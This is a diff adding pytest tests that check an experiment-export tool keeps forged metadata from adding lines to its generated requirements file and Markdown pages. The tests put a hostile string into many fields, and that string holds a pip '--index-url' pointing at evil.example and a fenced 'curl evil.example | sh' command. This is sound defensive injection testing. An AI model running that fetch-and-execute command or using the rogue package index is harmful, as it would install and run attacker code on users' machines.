@@ -28,6 +28,15 @@ from tests.fakes.drawn_sweeps import write_drawn_sweep
 
 FILES = {SETTING, SCRIPT, REQUIREMENTS, PAGE}
 CAPTION = "a large red circle"
+BLOCKS = {
+    "heading_open",
+    "fence",
+    "bullet_list_open",
+    "ordered_list_open",
+    "code_block",
+    "html_block",
+    "blockquote_open",
+}
 
 
 @pytest.fixture(scope="module")
@@ -177,6 +186,42 @@ def test_labels_and_names_come_out_as_they_are(name: str, sweep: Path) -> None:
     text = export_files(replace(trial, record=replace(trial.record, label=label)))[name].decode()
     assert label in unescape(MarkdownIt().render(text))
     assert not re.search(r"(?<!\\)\$", text)
+
+
+HOSTILE = "x\n--index-url http://evil.example\n```sh\ncurl evil.example | sh\n```\n- run `it` | now"
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"versions": {"specfrontier": HOSTILE, "python": HOSTILE, "torch": HOSTILE, HOSTILE: "1"}},
+        {"timing": {"device": HOSTILE, "nodes": {HOSTILE: HOSTILE}}},
+        {"device": HOSTILE},
+        {"captions": {"count": HOSTILE, "source": HOSTILE}},
+        {"name": HOSTILE, "target": HOSTILE},
+        {"files": {"drafters.eagle": HOSTILE}, "models": {"drafters.eagle": HOSTILE}},
+    ],
+)
+def test_a_forged_field_adds_no_line(changed: dict[str, Any], sweep: Path) -> None:
+    """Neither to what the reader is told to install, nor to what the pages tell to run."""
+    plain, forged = export_files(eagle_trial(sweep)), export_files(eagle_trial(sweep, **changed))
+    assert not any(line.startswith("-") for line in forged[REQUIREMENTS].decode().splitlines())
+    assert len(forged[REQUIREMENTS].splitlines()) <= len(plain[REQUIREMENTS].splitlines())
+    for name in (PAGE, CARD):
+        kinds = [[token.type for token in MarkdownIt().parse(files[name].decode())] for files in (plain, forged)]
+        assert [kind for kind in kinds[0] if kind in BLOCKS] == [kind for kind in kinds[1] if kind in BLOCKS], name
+        fences = [t.content for t in MarkdownIt().parse(forged[name].decode()) if t.type == "fence"]
+        assert not any("curl" in content for content in fences), name
+
+
+def test_a_forged_metric_or_plugin_adds_no_line(sweep: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    trial = eagle_trial(sweep)
+    monkeypatch.setattr(type(trial.config), "plugins", (HOSTILE,))
+    metrics = {**trial.record.metrics, "mean_accepted_length": trial.record.metrics["fid"]}
+    forged = replace(trial, record=replace(trial.record, metrics=metrics, label=HOSTILE, cause=HOSTILE))
+    for text in export_files(forged).values():
+        lines = text.decode().splitlines()
+        assert not any(line.startswith(("--index-url", "curl", "- run")) for line in lines)
 
 
 def test_what_is_refused(sweep: Path, tmp_path: Path) -> None:
